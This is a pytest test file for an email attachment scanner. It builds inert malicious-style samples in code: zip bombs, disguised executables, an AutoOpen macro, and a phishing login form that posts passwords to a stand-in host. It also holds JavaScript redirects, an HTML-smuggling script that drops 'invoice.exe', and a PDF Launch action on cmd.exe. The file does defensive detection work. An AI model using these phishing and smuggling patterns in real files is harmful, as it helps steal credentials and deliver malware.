"""What ``inspect_attachment`` finds in a file: its real type, its members (bounded), macros, encryption,
HTML and PDF tricks, and the text a link scanner should see. Every file here is built in the test."""

from __future__ import annotations

import base64
import gzip
import io
import lzma
import struct
import tarfile
import time
import tracemalloc
import urllib.parse
import zipfile
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mailwarden.attachments import AttachmentLimits, inspect_attachment, sniff

# --- small real files ----------------------------------------------------------------------------

# The start of a PE file: "MZ", a DOS stub and the PE signature; inert (no code section).
FAKE_PE = b"MZ" + b"\x90" * 58 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200
FAKE_ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 100
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def make_zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def raw_zip(entries: list[tuple[str, bytes, int, int, int, int]], offsets: list[int] | None = None,
            count: int | None = None) -> bytes:
    """A ZIP written byte by byte, so that sizes, flags and offsets can say whatever a test needs.
    Each entry: (name, packed data, method, crc, declared size, flags)."""
    local = bytearray()
    central = bytearray()
    for i, (name, packed, method, crc, size, flags) in enumerate(entries):
        raw_name = name.encode()
        offset = len(local) if offsets is None else offsets[i]
        local += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, method, 0, 0x21, crc, len(packed), size,
                             len(raw_name), 0) + raw_name + packed
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, method, 0, 0x21, crc,
                               len(packed), size, len(raw_name), 0, 0, 0, 0, 0, offset) + raw_name
    total = len(entries) if count is None else count
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, min(total, 0xFFFF), min(total, 0xFFFF), len(central),
                      len(local), 0)
    return bytes(local + central + end)


def deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


def deflated_zeros(megabytes: int) -> tuple[bytes, int]:
    """A raw deflate stream of ``megabytes`` MB of zeros and its CRC, built in milliseconds: with a full
    flush after every megabyte the compressor starts afresh, so each megabyte compresses to the same bytes."""
    zeros = bytes(1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream = block * megabytes + zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS).flush()
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(zeros, crc)
    return stream, crc


# A compound file (MS-CFB v3) writer, enough for oletools: Office documents are OLE containers.
_FREE, _END, _FAT, _NONE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def compound_file(streams: dict[str, bytes]) -> bytes:
    """An OLE file holding ``streams`` (paths like "Macros/VBA/dir"; storages are implied)."""
    paths = [""]
    for path in streams:
        parts = path.split("/")
        paths += ["/".join(parts[:i]) for i in range(1, len(parts) + 1) if "/".join(parts[:i]) not in paths]
    index = {p: i for i, p in enumerate(paths)}

    def parent(path: str) -> str:
        return path.rsplit("/", 1)[0] if "/" in path else ""

    children: dict[str, list[str]] = {p: [q for q in paths[1:] if parent(q) == p] for p in paths}
    mini, minifat, big, start = bytearray(), [], [], {}
    for path, data in streams.items():
        if len(data) < 4096:  # small streams live in the mini stream, in 64-byte sectors
            start[path] = len(mini) // 64
            count = max(1, -(-len(data) // 64))
            minifat += [start[path] + i + 1 for i in range(count - 1)] + [_END]
            mini += data.ljust(count * 64, b"\0")
        else:
            big.append((path, data))
    sizes = [-(-len(paths) * 128 // 512), -(-len(minifat) * 4 // 512), -(-len(mini) // 512)]
    body = sum(sizes) + sum(-(-len(d) // 512) for _, d in big)
    fat_sectors = 1
    while fat_sectors * 128 < body + fat_sectors:
        fat_sectors += 1
    fat = [_FAT] * fat_sectors

    def chain(count: int) -> int:
        if not count:
            return _END
        first = len(fat)
        fat.extend([*range(first + 1, first + count), _END])
        return first

    dir_start, minifat_start, mini_start = (chain(n) for n in sizes)
    for path, data in big:
        start[path] = chain(-(-len(data) // 512))
    fat += [_FREE] * (fat_sectors * 128 - len(fat))
    entries = bytearray()
    for path in paths:
        siblings = children[parent(path)] if path else [path]
        after = siblings.index(path) + 1
        right = index[siblings[after]] if after < len(siblings) else _NONE
        child = index[children[path][0]] if children[path] else _NONE
        kind, first, size = (5, mini_start, len(mini)) if not path else \
            (2, start[path], len(streams[path])) if path in streams else (1, 0, 0)
        name = (path.rsplit("/", 1)[-1] if path else "Root Entry").encode("utf-16-le")
        entries += struct.pack("<64sHBBIII16sIQQIII", name, len(name) + 2, kind, 1, _NONE, right, child,
                               bytes(16), 0, 0, 0, first, size, 0)
    entries = entries.ljust(sizes[0] * 512, b"\0")
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII109I", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", bytes(16), 0x3E, 3,
                         0xFFFE, 9, 6, bytes(6), 0, fat_sectors, dir_start, 0, 4096, minifat_start,
                         sizes[1], _END, 0, *range(fat_sectors), *[_FREE] * (109 - fat_sectors))
    out = bytearray(header) + struct.pack(f"<{len(fat)}I", *fat) + entries
    out += struct.pack(f"<{len(minifat)}I", *minifat).ljust(sizes[1] * 512, b"\xff")
    out += bytes(mini).ljust(sizes[2] * 512, b"\0")
    for _, data in big:
        out += data.ljust(-(-len(data) // 512) * 512, b"\0")
    return bytes(out)


def _ovba(data: bytes) -> bytes:
    """MS-OVBA compression using literal tokens only (valid, just not smaller); one chunk."""
    assert len(data) <= 3500
    body = b"".join(b"\x00" + data[i : i + 8] for i in range(0, len(data), 8))
    return b"\x01" + struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body


def _record(record_id: int, data: bytes) -> bytes:
    return struct.pack("<HI", record_id, len(data)) + data


def vba_project(source: str, root: str = "") -> dict[str, bytes]:
    """The streams of a VBA project (MS-OVBA) with one module holding ``source`` (never run)."""
    module = "Module1".encode("utf-16-le")
    directory = b"".join([
        _record(0x01, struct.pack("<I", 1)), _record(0x02, struct.pack("<I", 0x409)),
        _record(0x14, struct.pack("<I", 0x409)), _record(0x03, struct.pack("<H", 1252)),
        _record(0x04, b"VBAProject"), _record(0x05, b""), struct.pack("<HI", 0x40, 0),
        _record(0x06, b""), struct.pack("<HI", 0x3D, 0), _record(0x07, struct.pack("<I", 0)),
        _record(0x08, struct.pack("<I", 0)), struct.pack("<HIIH", 0x09, 4, 1, 0),
        _record(0x0C, b""), struct.pack("<HI", 0x3C, 0),
        struct.pack("<HIH", 0x0F, 2, 1), struct.pack("<HIH", 0x13, 2, 0xFFFF),
        _record(0x19, b"Module1"), _record(0x1A, b"Module1"), struct.pack("<HI", 0x32, len(module)), module,
        _record(0x31, struct.pack("<I", 0)), struct.pack("<HI", 0x21, 0), struct.pack("<HI", 0x2B, 0),
        struct.pack("<HI", 0x10, 0),
    ])
    prefix = f"{root}/" if root else ""
    return {
        f"{prefix}PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\nName="VBAProject"\r\n',
        f"{prefix}VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        f"{prefix}VBA/dir": _ovba(directory),
        f"{prefix}VBA/Module1": _ovba(('Attribute VB_Name = "Module1"\r\n' + source).encode("cp1252")),
    }


AUTO_OPEN_MACRO = 'Sub AutoOpen()\r\n    Shell "notepad.exe"\r\nEnd Sub\r\n'
DOCX_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def ooxml(parts: dict[str, bytes]) -> bytes:
    return make_zip({"[Content_Types].xml": DOCX_TYPES, "word/document.xml": b"<w:document/>", **parts})


# --- sniffing ------------------------------------------------------------------------------------

@pytest.mark.parametrize(("payload", "kind"), [
    (FAKE_PE, "pe"),
    (b"MZ Corp. invoice 2291, due on receipt, thank you for your business, regards, accounts", "unknown"),
    (FAKE_ELF, "elf"),
    (make_zip({"a.txt": b"a"}), "zip"),
    (gzip.compress(b"hello"), "gzip"),
    (PDF, "pdf"),
    (b"\n\x89junk before the header %PDF-1.6\n", "pdf"),
    (b"<!DOCTYPE html><html><body>hi</body></html>", "html"),
    (b"Your attachment has been downloaded\r\n<html><body></body></html>", "html"),
    (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>', "svg"),
    (bytes(0x8001) + b"CD001" + bytes(100), "iso"),
    (b"[InternetShortcut]\r\nURL=https://example.com/\r\n", "url_shortcut"),
    (b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "unknown"),
])
def test_sniff_reads_the_content_not_the_name(payload: bytes, kind: str) -> None:
    assert sniff(payload) == kind


def test_every_attachment_gets_size_and_sha256() -> None:
    attachment = inspect_attachment("logo.png", "image/png", b"\x89PNG\r\n\x1a\n" + bytes(20))
    assert attachment.sniffed_type == "png"
    assert attachment.size == 28
    assert len(attachment.sha256) == 64
    assert attachment.members == () and attachment.defects == ()


# --- never raises --------------------------------------------------------------------------------

_PREFIXES = [b"PK\x03\x04", b"PK\x05\x06", b"Rar!\x1a\x07\x00", b"Rar!\x1a\x07\x01\x00", b"7z\xbc\xaf\x27\x1c",
             b"\x1f\x8b", b"%PDF", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"<html>", b""]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(prefix=st.sampled_from(_PREFIXES), body=st.binary(max_size=2000))
def test_inspection_never_raises_on_arbitrary_bytes(prefix: bytes, body: bytes) -> None:
    attachment = inspect_attachment("x.bin", "application/octet-stream", prefix + body)
    assert attachment.size == len(prefix + body)


@pytest.mark.parametrize("cut", [10, 40, 80, -30, -10])
def test_a_truncated_archive_becomes_a_defect(cut: int) -> None:
    archive = make_zip({"a.txt": b"hello " * 100, "b.exe": FAKE_PE})
    attachment = inspect_attachment("a.zip", "application/zip", archive[:cut])
    assert "archive_corrupt" in attachment.defects


def test_every_byte_of_a_small_zip_may_be_damaged_without_an_exception() -> None:
    archive = make_zip({"a.txt": b"hello", "inner.zip": make_zip({"b.exe": FAKE_PE})})
    for i in range(len(archive)):
        damaged = archive[:i] + bytes([archive[i] ^ 0xFF]) + archive[i + 1 :]
        inspect_attachment("a.zip", "application/zip", damaged)


# --- ZIP -----------------------------------------------------------------------------------------

def test_zip_members_are_listed_with_their_real_type() -> None:
    archive = make_zip({"Invoice_BF-260417.pdf.exe": FAKE_PE, "readme.txt": b"hello", "docs/": b""})
    attachment = inspect_attachment("Invoice.zip", "application/zip", archive)
    assert attachment.sniffed_type == "zip"
    assert [(m.name, m.sniffed_type, m.size) for m in attachment.members] == [
        ("Invoice_BF-260417.pdf.exe", "pe", len(FAKE_PE)), ("readme.txt", "unknown", 5)]
    assert not attachment.encrypted and attachment.defects == ()


def test_nested_archives_are_opened_down_to_the_nesting_limit() -> None:
    inner = make_zip({"payload.exe": FAKE_PE})
    middle = make_zip({"inner.zip": inner})
    outer = make_zip({"middle.zip": middle})
    attachment = inspect_attachment("outer.zip", "application/zip", outer)
    assert [(m.path, m.depth, m.sniffed_type) for m in attachment.members] == [
        ("middle.zip", 0, "zip"), ("middle.zip/inner.zip", 1, "zip"), ("middle.zip/inner.zip/payload.exe", 2, "pe")]
    assert attachment.defects == ()

    too_deep = inspect_attachment("outer.zip", "application/zip", make_zip({"outer.zip": outer}))
    assert "archive_nested_too_deep" in too_deep.defects
    assert all(m.name != "payload.exe" for m in too_deep.members)


def test_the_member_limit_bounds_a_huge_central_directory() -> None:
    entries = [(f"{i:x}", b"", 0, 0, 0, 0) for i in range(60_000)]
    archive = raw_zip(entries)
    started = time.perf_counter()
    attachment = inspect_attachment("many.zip", "application/zip", archive, AttachmentLimits(max_members=500))
    assert time.perf_counter() - started < 1.0
    assert len(attachment.members) == 500
    assert "archive_too_many_members" in attachment.defects


def test_a_zip_bomb_is_stopped_fast_and_reported() -> None:
    stream, crc = deflated_zeros(200)
    bomb = raw_zip([("zeros.bin", stream, 8, crc, 200 * 1024 * 1024, 0)])
    started = time.perf_counter()
    attachment = inspect_attachment("bomb.zip", "application/zip", bomb)
    elapsed = time.perf_counter() - started
    assert elapsed < 2.0, f"took {elapsed:.2f} s"
    assert "archive_bomb" in attachment.defects
    assert [m.name for m in attachment.members] == ["zeros.bin"]


def test_a_zip_bomb_is_read_in_bounded_memory() -> None:
    stream, crc = deflated_zeros(200)
    bomb = raw_zip([("zeros.bin", stream, 8, crc, 200 * 1024 * 1024, 0)])
    tracemalloc.start()
    try:
        attachment = inspect_attachment("bomb.zip", "application/zip", bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "archive_bomb" in attachment.defects
    assert peak < 100 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB"


def test_a_bomb_that_lies_about_its_size_is_caught_while_reading() -> None:
    stream, crc = deflated_zeros(200)
    liar = raw_zip([("small.txt", stream, 8, crc, 1000, 0)])  # claims 1000 bytes
    started = time.perf_counter()
    attachment = inspect_attachment("liar.zip", "application/zip", liar)
    assert time.perf_counter() - started < 2.0
    assert "archive_bomb" in attachment.defects


def test_overlapping_members_are_a_bomb() -> None:
    packed = deflate(b"A" * 10_000)
    crc = zlib.crc32(b"A" * 10_000)
    overlapping = raw_zip([("a.txt", packed, 8, crc, 10_000, 0), ("b.txt", b"", 8, crc, 10_000, 0)],
                          offsets=[0, 0])
    attachment = inspect_attachment("o.zip", "application/zip", overlapping)
    assert "archive_bomb" in attachment.defects


def test_the_decompression_budget_spans_all_members_and_names_are_still_listed() -> None:
    noise = bytes((i * 7919 + i // 256) % 251 for i in range(300_000))
    archive = make_zip({f"part{i}.bin": noise for i in range(5)} | {"last.exe": FAKE_PE})
    limits = AttachmentLimits(max_decompressed_bytes=700_000)
    attachment = inspect_attachment("big.zip", "application/zip", archive, limits)
    assert "archive_too_large" in attachment.defects
    assert [m.name for m in attachment.members][-1] == "last.exe"  # listed, though not read


def test_encrypted_members_are_flagged() -> None:
    secret = b"\x12\x34" * 30  # what ZipCrypto output looks like to us: noise
    archive = raw_zip([("invoice.pdf.exe", secret, 8, 0, 5000, 0x1), ("note.txt", b"hi", 0, zlib.crc32(b"hi"), 2, 0)])
    attachment = inspect_attachment("invoice.zip", "application/zip", archive)
    assert attachment.encrypted
    assert [(m.name, m.encrypted) for m in attachment.members] == [("invoice.pdf.exe", True), ("note.txt", False)]


def test_a_zip_hidden_in_front_of_another_is_read_too() -> None:
    hidden = make_zip({"payload.exe": FAKE_PE})
    decoy = make_zip({"photo.jpg": b"\xff\xd8\xff\xe0" + bytes(50)})
    attachment = inspect_attachment("photos.zip", "application/zip", hidden + decoy)
    assert {m.name for m in attachment.members} == {"payload.exe", "photo.jpg"}


def test_members_are_found_when_the_directory_offsets_are_wrong() -> None:
    packed = deflate(FAKE_PE)
    archive = raw_zip([("scan.exe", packed, 8, zlib.crc32(FAKE_PE), len(FAKE_PE), 0)], offsets=[6])
    attachment = inspect_attachment("scan.zip", "application/zip", archive)
    assert [(m.name, m.sniffed_type) for m in attachment.members] == [("scan.exe", "pe")]


def test_jar_files_are_recognised_by_their_members() -> None:
    jar = make_zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "a/Main.class": b"\xca\xfe\xba\xbe"})
    assert inspect_attachment("invoice.zip", "application/zip", jar).sniffed_type == "jar"


# --- gzip and tar --------------------------------------------------------------------------------

def test_gzip_and_tar_members_are_listed() -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in (("docs/invoice.pdf", PDF), ("docs/invoice.pdf.scr", FAKE_PE)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    tgz = gzip.compress(buffer.getvalue())
    attachment = inspect_attachment("docs.tgz", "application/gzip", tgz)
    assert [(m.path, m.sniffed_type) for m in attachment.members] == [
        ("docs.tar", "tar"), ("docs.tar/docs/invoice.pdf", "pdf"), ("docs.tar/docs/invoice.pdf.scr", "pe")]


def test_a_gzip_member_takes_its_name_from_the_header() -> None:
    buffer = io.BytesIO()
    with gzip.GzipFile(filename="update.exe", mode="wb", fileobj=buffer) as compressed:
        compressed.write(FAKE_PE)
    attachment = inspect_attachment("update.gz", "application/gzip", buffer.getvalue())
    assert [(m.name, m.sniffed_type) for m in attachment.members] == [("update.exe", "pe")]


# --- RAR and 7z headers --------------------------------------------------------------------------

def vint(value: int) -> bytes:
    out = bytearray()
    while True:
        out.append((value & 0x7F) | (0x80 if value > 0x7F else 0))
        value >>= 7
        if not value:
            return bytes(out)


def rar5_header(kind: int, body: bytes, extra: bytes = b"", data: bytes = b"") -> bytes:
    flags = (0x1 if extra else 0) | (0x2 if data else 0)
    fields = vint(kind) + vint(flags) + (vint(len(extra)) if extra else b"") + (vint(len(data)) if data else b"")
    fields += body + extra
    size = vint(len(fields))
    return struct.pack("<I", zlib.crc32(size + fields)) + size + fields + data


def rar5_file(name: str, data: bytes, encrypted: bool = False) -> bytes:
    body = vint(0) + vint(len(data)) + vint(0x20) + vint(0) + vint(0) + vint(len(name)) + name.encode()
    encryption = vint(0) + vint(0) + bytes([15]) + bytes(32)
    extra = vint(len(vint(1) + encryption)) + vint(1) + encryption if encrypted else b""
    return rar5_header(2, body, extra, data)


RAR5 = b"Rar!\x1a\x07\x01\x00"


def test_rar5_members_are_named_and_their_encryption_seen() -> None:
    archive = RAR5 + rar5_header(1, vint(0)) + rar5_file("photo.jpg.exe", FAKE_PE) \
        + rar5_file("secret.js", b"\x8f" * 40, encrypted=True) + rar5_header(5, vint(0))
    attachment = inspect_attachment("photos.rar", "application/x-rar", archive)
    assert [(m.name, m.sniffed_type, m.encrypted) for m in attachment.members] == [
        ("photo.jpg.exe", "pe", False), ("secret.js", "unknown", True)]
    assert attachment.encrypted


def test_rar5_with_encrypted_headers_is_encrypted_without_names() -> None:
    archive = RAR5 + rar5_header(4, vint(0) + vint(0) + bytes([15]) + bytes(16)) + bytes(64)
    attachment = inspect_attachment("x.rar", "application/x-rar", archive)
    assert attachment.encrypted and attachment.members == ()


def test_rar4_encrypted_member() -> None:
    name = b"invoice.exe"
    data = b"\xaa" * 32
    file_header = struct.pack("<HBHHIIBIIBBHI", 0, 0x74, 0x8000 | 0x04, 32 + len(name), len(data), 4096, 2, 0, 0,
                              29, 0x33, len(name), 0x20) + name
    archive = b"Rar!\x1a\x07\x00" + struct.pack("<HBHH", 0, 0x73, 0, 13) + bytes(6) + file_header + data \
        + struct.pack("<HBHH", 0, 0x7B, 0x4000, 7)
    attachment = inspect_attachment("invoice.rar", "application/x-rar", archive)
    assert [(m.name, m.encrypted) for m in attachment.members] == [("invoice.exe", True)]


def sevenzip_number(value: int) -> bytes:
    assert value < 0x80
    return bytes([value])


def sevenzip_streams(pack_position: int, pack_size: int, coder_id: bytes, properties: bytes, size: int) -> bytes:
    coder = bytes([0x20 | len(coder_id)]) + coder_id + sevenzip_number(len(properties)) + properties
    return (b"\x06" + sevenzip_number(pack_position) + b"\x01\x09" + sevenzip_number(pack_size) + b"\x00"
            + b"\x07\x0b\x01\x00\x01" + coder + b"\x0c" + sevenzip_number(size) + b"\x00" + b"\x00")


def sevenzip(packed: bytes, header: bytes) -> bytes:
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + header


def sevenzip_plain_header(names: list[str], coder_id: bytes) -> bytes:
    encoded = b"\x00" + b"".join(n.encode("utf-16-le") + b"\x00\x00" for n in names)
    files = b"\x05" + sevenzip_number(len(names)) + b"\x11" + sevenzip_number(len(encoded)) + encoded + b"\x00"
    return b"\x01\x04" + sevenzip_streams(0, 16, coder_id, b"\x00" * 10, 40) + files + b"\x00"


AES = b"\x06\xf1\x07\x01"
LZMA_PROPERTIES = bytes([93]) + (1 << 16).to_bytes(4, "little")  # lc=3 lp=0 pb=2, 64 KiB dictionary


def test_7z_names_and_aes_encryption_from_a_plain_header() -> None:
    archive = sevenzip(bytes(16), sevenzip_plain_header(["invoice.pdf.exe"], AES))
    attachment = inspect_attachment("invoice.7z", "application/x-7z-compressed", archive)
    assert attachment.sniffed_type == "7z"
    assert [(m.name, m.encrypted) for m in attachment.members] == [("invoice.pdf.exe", True)]
    assert attachment.encrypted


def test_7z_packed_header_is_unpacked_to_read_names() -> None:
    plain = sevenzip_plain_header(["report.docx", "run.js"], b"\x03\x01\x01")
    packed_header = lzma.compress(plain, format=lzma.FORMAT_RAW, filters=[
        {"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16, "lc": 3, "lp": 0, "pb": 2}])
    encoded = b"\x17" + sevenzip_streams(16, len(packed_header), b"\x03\x01\x01", LZMA_PROPERTIES, len(plain))
    archive = sevenzip(bytes(16) + packed_header, encoded)
    attachment = inspect_attachment("files.7z", "application/x-7z-compressed", archive)
    assert [m.name for m in attachment.members] == ["report.docx", "run.js"]
    assert not attachment.encrypted


def test_7z_with_encrypted_header_is_encrypted() -> None:
    encoded = b"\x17" + sevenzip_streams(16, 32, AES, bytes(18), 100)
    attachment = inspect_attachment("x.7z", "application/x-7z-compressed", sevenzip(bytes(48), encoded))
    assert attachment.encrypted and attachment.members == ()


# --- Office --------------------------------------------------------------------------------------

def test_macros_in_an_ole_document_are_found_with_their_keywords() -> None:
    document = compound_file(vba_project(AUTO_OPEN_MACRO, root="Macros") | {"WordDocument": bytes(5000)})
    attachment = inspect_attachment("order.doc", "application/msword", document)
    assert attachment.sniffed_type == "ole"
    assert attachment.has_macros
    assert "AutoExec:AutoOpen" in attachment.macro_indicators
    assert "Suspicious:Shell" in attachment.macro_indicators


def test_macros_in_a_docm_are_found_in_its_vba_part() -> None:
    docm = ooxml({"word/vbaProject.bin": compound_file(vba_project(AUTO_OPEN_MACRO))})
    attachment = inspect_attachment("order.docm", "application/vnd.ms-word.document.macroEnabled.12", docm)
    assert attachment.sniffed_type == "ooxml"
    assert attachment.has_macros
    assert "AutoExec:AutoOpen" in attachment.macro_indicators
    assert attachment.members == ()  # document parts are not archive contents


def test_a_vba_part_oletools_cannot_read_still_means_macros() -> None:
    docm = ooxml({"word/vbaProject.bin": b"not really OLE"})
    attachment = inspect_attachment("order.docm", "application/octet-stream", docm)
    assert attachment.has_macros
    assert attachment.macro_indicators == ()


def test_a_docx_without_macros_is_a_plain_document() -> None:
    docx = ooxml({"word/media/image1.png": b"\x89PNG" + bytes(20)})
    attachment = inspect_attachment("plan.docx", "application/octet-stream", docx)
    assert attachment.sniffed_type == "ooxml"
    assert not attachment.has_macros and not attachment.encrypted
    assert attachment.members == () and attachment.defects == ()


def test_an_ole_document_without_macros_has_none() -> None:
    document = compound_file({"WordDocument": b"\xec\xa5" + bytes(5000)})
    attachment = inspect_attachment("letter.doc", "application/msword", document)
    assert not attachment.has_macros and attachment.macro_indicators == ()


def test_an_encrypted_office_document_is_flagged() -> None:
    document = compound_file({"EncryptionInfo": b"\x04\x00\x04\x00" + bytes(200), "EncryptedPackage": bytes(5000)})
    attachment = inspect_attachment("salary.xlsx", "application/octet-stream", document)
    assert attachment.encrypted


def test_a_macro_document_inside_a_zip_is_marked_on_its_member() -> None:
    docm = ooxml({"word/vbaProject.bin": compound_file(vba_project(AUTO_OPEN_MACRO))})
    attachment = inspect_attachment("order.zip", "application/zip", make_zip({"order.docm": docm}))
    assert [(m.name, m.sniffed_type, m.has_macros) for m in attachment.members] == [("order.docm", "ooxml", True)]


# --- HTML ----------------------------------------------------------------------------------------

LOGIN_PAGE = b"""<!DOCTYPE html><html><head><title>Sign in</title></head><body>
<form method="POST" action="https://collector.example.net/auth.php">
<input type="email" name="login"><input type="password" name="passwd"><button>Sign in</button></form>
<script>var h = window.location.hash.substr(1);</script></body></html>"""


def test_an_html_login_form_posting_away_is_recognised() -> None:
    attachment = inspect_attachment("Remittance.html", "text/html", LOGIN_PAGE)
    assert set(attachment.html_features) == {"password_form", "form_post_external"}  # reading the hash is no redirect
    assert "https://collector.example.net/auth.php" in attachment.text
    assert "Sign in" in attachment.text


@pytest.mark.parametrize("script", [
    '<script>window.location = "https://evil.example/x";</script>',
    "<script>location.replace('https://evil.example/x')</script>",
    "<script>document.location.href='https://evil.example/x'</script>",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/x">',
])
def test_html_redirects_are_recognised_and_their_target_kept(script: str) -> None:
    page = f"<html><head>{script}</head><body></body></html>".encode()
    attachment = inspect_attachment("open.html", "text/html", page)
    assert "js_redirect" in attachment.html_features
    assert "https://evil.example/x" in attachment.text


def test_html_smuggling_is_recognised() -> None:
    blob = base64.b64encode(FAKE_PE * 20).decode()
    page = f"""<html><body><script>
    var data = atob("{blob}"); var bytes = new Uint8Array(data.length);
    var file = new Blob([bytes], {{type: "application/octet-stream"}});
    var a = document.createElement("a"); a.href = URL.createObjectURL(file); a.download = "invoice.exe"; a.click();
    </script></body></html>"""
    attachment = inspect_attachment("invoice.html", "text/html", page.encode())
    assert "html_smuggling" in attachment.html_features


def test_markup_hidden_in_an_escaped_string_is_decoded_and_read() -> None:
    hidden = urllib.parse.quote(LOGIN_PAGE.decode())
    page = f'<script>document.write(unescape("{hidden}"));</script>'
    attachment = inspect_attachment("Confirmation.html", "text/html", page.encode())
    assert {"obfuscated_script", "password_form", "form_post_external"} <= set(attachment.html_features)
    assert "https://collector.example.net/auth.php" in attachment.text


def test_a_plain_html_page_has_no_features() -> None:
    page = b"<html><body><h1>Menu</h1><p>Soup of the day</p><a href='https://example.com/menu'>more</a></body></html>"
    attachment = inspect_attachment("menu.html", "text/html", page)
    assert attachment.html_features == ()
    assert "https://example.com/menu" in attachment.text


def test_svg_with_script_is_read_like_html() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.location="https://evil.example/s"</script></svg>'
    attachment = inspect_attachment("voice-message.svg", "image/svg+xml", svg)
    assert attachment.sniffed_type == "svg"
    assert "js_redirect" in attachment.html_features


# --- PDF, text, shortcuts ------------------------------------------------------------------------

def test_pdf_link_targets_and_actions_are_read_without_rendering() -> None:
    hex_target = b"https://hex.example/p".hex()
    pdf = (b"%PDF-1.4\n1 0 obj << /Type /Annot /A << /S /URI /URI (https://phish.example/login\\(1\\)) >> >> endobj\n"
           b"2 0 obj << /A << /S /URI /URI <" + hex_target.encode() + b"> >> >> endobj\n"
           b"3 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj\n%%EOF")
    attachment = inspect_attachment("statement.pdf", "application/pdf", pdf)
    assert attachment.text.splitlines() == ["https://phish.example/login(1)", "https://hex.example/p"]
    assert {"open_action", "launch"} <= set(attachment.pdf_features)


def test_pdf_links_in_compressed_object_streams_are_found() -> None:
    objects = b"1 0 << /Type /Annot /A << /S /URI /URI (https://hidden.example/x) >> >>"
    stream = zlib.compress(objects)
    pdf = (b"%PDF-1.5\n5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
           + str(len(stream)).encode() + b" >>\nstream\r\n" + stream + b"\r\nendstream\nendobj\n%%EOF")
    attachment = inspect_attachment("doc.pdf", "application/pdf", pdf)
    assert attachment.text == "https://hidden.example/x"
    assert attachment.pdf_features == ()


def test_an_ordinary_pdf_has_no_features() -> None:
    attachment = inspect_attachment("invoice.pdf", "application/pdf", PDF)
    assert attachment.pdf_features == () and attachment.text == ""


def test_calendar_and_text_attachments_keep_their_text() -> None:
    invite = b"BEGIN:VCALENDAR\r\nX-MEETING-URL:https://teams.example/meet/123\r\nEND:VCALENDAR\r\n"
    attachment = inspect_attachment("invite.ics", "text/calendar", invite)
    assert "https://teams.example/meet/123" in attachment.text
    limited = inspect_attachment("notes.txt", "text/plain", b"x" * 5000, AttachmentLimits(max_text_chars=100))
    assert len(limited.text) == 100


def test_an_internet_shortcut_reveals_its_target() -> None:
    shortcut = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/invoice.exe\r\n"
    attachment = inspect_attachment("invoice.url", "application/octet-stream", shortcut)
    assert attachment.shortcut_target == "file://198.51.100.7/share/invoice.exe"
